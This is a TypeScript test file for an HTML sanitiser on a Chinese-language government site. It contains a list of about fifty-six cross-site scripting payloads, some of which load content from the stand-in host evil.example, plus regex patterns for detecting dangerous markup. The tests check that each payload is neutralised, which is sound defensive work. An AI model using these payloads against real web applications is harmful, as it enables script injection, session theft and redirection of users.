import { test } from 'node:test';
import assert from 'node:assert/strict';
import { htmlToText, sanitizeHtmlBody, textToHtml, scrollableTables } from './sanitize.ts';

// Each payload must come out with no script, no handler, no dangerous URL, no active element.
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://ok.example/a.png" onerror="alert(1)">',
  '<p onclick="alert(1)">hi</p>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<a href="//evil.example/">x</a>',
  '<svg onload=alert(1)><circle r=1 /></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="width: expression(alert(1))">x</p>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name=a><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '"><script>alert(1)</script>',
  '<a href="https://ok.example" target="_blank" onmouseover="alert(1)">x</a>',
  '<img src=`javascript:alert(1)`>',
  '<template><script>alert(1)</script></template>',
  '<img src="https://ok.example/a.png" srcset="javascript:alert(1) 1x, https://evil.example/b.png 2x">',
  '<button formaction="javascript:alert(1)">x</button>',
  '<svg><use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+#x"></use></svg>',
  '<a href="/\t/evil.example/">x</a>',
  '<a href="/&#x09;/evil.example/">x</a>',
  '<a href="/\\evil.example/">x</a>',
  '<a href="\\\\evil.example/">x</a>',
  '<a href="&#x2F;&#x2F;evil.example/">x</a>',
  '<<script>alert(1)//<</script>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<a href="#" ping="https://evil.example/">x</a>',
];

const DANGER = /<\s*(script|iframe|object|embed|svg|math|form|input|button|meta|base|link|style|details|video|source|template|body)\b|\son[a-z]+\s*=|javascript:|vbscript:|data:|expression\(|style=|srcdoc|xlink:href|href="\/\//i;
// URLs a browser reads as another host once tabs/newlines are stripped or backslashes turned into slashes.
const OTHER_HOST = /(href|src)="\s*[/\\]\s*[/\\]|srcset|formaction|ping=/i;

for (const payload of PAYLOADS) {
  test(`sanitiser neutralises ${payload.slice(0, 60)}`, () => {
    const out = sanitizeHtmlBody(payload);
    assert.doesNotMatch(out, DANGER, out);
    assert.doesNotMatch(out, OTHER_HOST, out);
    // Sanitising again changes nothing (what is stored is what is served).
    assert.equal(sanitizeHtmlBody(out), out);
  });
}

test('sanitiser keeps the allow-list: paragraphs, headings, lists, tables, safe links and images', () => {
  const html = '<h2>一、总体要求</h2><p>依据<strong>《条例》</strong>第二十六条。<a href="https://www.gov.cn/zhengce/">国务院</a> <a href="/openness/records/1">本站</a> <a href="mailto:gkb@example.gov.cn">邮件</a></p><ul><li>一</li></ul><table><tr><th scope="col">项</th></tr><tr><td colspan="2">值</td></tr></table><img src="https://img.example/a.png" alt="图">';
  const out = sanitizeHtmlBody(html);
  for (const kept of ['<h2>一、总体要求</h2>', '<strong>《条例》</strong>', 'href="https://www.gov.cn/zhengce/"', 'rel="noopener noreferrer nofollow"', 'href="/openness/records/1"', 'href="mailto:gkb@example.gov.cn"', '<li>一</li>', '<th scope="col">', '<td colspan="2">', 'alt="图"']) {
    assert.ok(out.includes(kept), `${kept} missing in ${out}`);
  }
});

test('sanitiser drops a javascript: link but keeps its text', () => {
  assert.equal(sanitizeHtmlBody('<a href="javascript:alert(1)">点此</a>'), '<a>点此</a>');
});

test('htmlToText: tags dropped, entities decoded, blocks separated', () => {
  assert.equal(htmlToText('<p>第一段&amp;说明</p><p>第二段 &lt;附件&gt;</p>'), '第一段&说明 第二段 <附件>');
  assert.equal(htmlToText(sanitizeHtmlBody('<p>正文<script>alert(1)</script></p>')), '正文');
});

test('textToHtml: paragraphs escaped', () => {
  assert.equal(textToHtml('第一段<b>\n续行\n\n第二段'), '<p>第一段&lt;b&gt;<br />续行</p><p>第二段</p>');
});

test('scrollableTables: every table in its own focusable, named scroll box; the rest untouched', () => {
  const out = scrollableTables('<p>附件</p><table><tr><td>1</td></tr></table><p>后文</p><TABLE><tr><td>2</td></tr></TABLE >', '正文表格<可滚动>');
  const box = '<div class="table-scroll" tabindex="0" role="region" aria-label="正文表格&lt;可滚动&gt;">';
  assert.equal(out, `<p>附件</p>${box}<table><tr><td>1</td></tr></table></div><p>后文</p>${box}<TABLE><tr><td>2</td></tr></table></div>`);
  assert.equal(scrollableTables('<p>没有表格</p>', '表格'), '<p>没有表格</p>');
});
